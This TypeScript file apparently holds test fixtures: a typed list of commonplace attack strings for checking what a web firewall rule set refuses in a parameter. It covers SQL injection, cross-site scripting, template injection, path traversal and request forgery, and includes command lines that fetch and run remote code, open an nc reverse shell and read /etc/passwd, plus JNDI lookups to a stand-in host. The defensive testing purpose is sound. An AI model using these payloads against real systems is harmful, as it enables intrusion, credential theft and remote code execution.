/**
 * Attacks of our own to try an exception on: what a rule set that is worth running refuses in a parameter. Each is a commonplace
 * of its kind; none does anything by itself.
 */
export interface SampleAttack {
  readonly kind:
    | 'SQL injection'
    | 'cross-site scripting'
    | 'command'
    | 'file'
    | 'PHP'
    | 'template'
    | 'request forgery'
    | 'Java';
  readonly value: string;
}

const of = (kind: SampleAttack['kind'], ...values: readonly string[]): readonly SampleAttack[] =>
  values.map((value) => ({ kind, value }));

export const sampleAttacks: readonly SampleAttack[] = [
  ...of(
    'SQL injection',
    "1' OR '1'='1' -- -",
    "1' UNION SELECT username, password FROM users -- -",
    '1; DROP TABLE orders; --',
    "1' AND SLEEP(5) -- -",
    '1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)',
    "x'; EXEC xp_cmdshell('whoami'); --",
    "admin'/*",
    "1' AND extractvalue(1, concat(0x7e, version())) -- -",
    "' OR 1=1 LIMIT 1 INTO OUTFILE '/tmp/x' -- -",
  ),
  ...of(
    'cross-site scripting',
    '<script>alert(document.cookie)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg/onload=alert(1)>',
    'javascript:alert(document.domain)',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<body onload=alert(1)>',
  ),
  ...of(
    'command',
    '; cat /etc/passwd',
    '| whoami',
    '$(wget http://192.0.2.1/x -O- | sh)',
    '`curl http://192.0.2.1/x`',
    '& powershell -enc SQBFAFgA',
    '|| ping -c 3 192.0.2.1',
    '; nc -e /bin/sh 192.0.2.1 4444',
    '() { :; }; /bin/bash -c id',
  ),
  ...of(
    'file',
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fshadow',
    '..\\..\\..\\windows\\win.ini',
    '/proc/self/environ',
    'file:///etc/passwd',
    '.git/config',
    '/etc/shadow',
  ),
  ...of(
    'PHP',
    '<?php system($_GET["c"]); ?>',
    'php://filter/convert.base64-encode/resource=index.php',
    'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
    'eval(base64_decode("cGhwaW5mbygpOw=="));',
    '${@system(id)}',
  ),
  ...of(
    'template',
    '{{7*7}}{{config.items()}}',
    '${T(java.lang.Runtime).getRuntime().exec("id")}',
    '<%= system("id") %>',
    '#{7*7}',
  ),
  ...of(
    'request forgery',
    'http://169.254.169.254/latest/meta-data/',
    'http://127.0.0.1:22/',
    'gopher://127.0.0.1:6379/_INFO',
    'http://metadata.google.internal/computeMetadata/v1/',
  ),
  ...of(
    'Java',
    '${jndi:ldap://192.0.2.1/a}',
    'java.lang.ProcessBuilder',
    '%{(#rt=@java.lang.Runtime@getRuntime()).exec("id")}',
    '${${lower:j}ndi:ldap://192.0.2.1/a}',
  ),
];
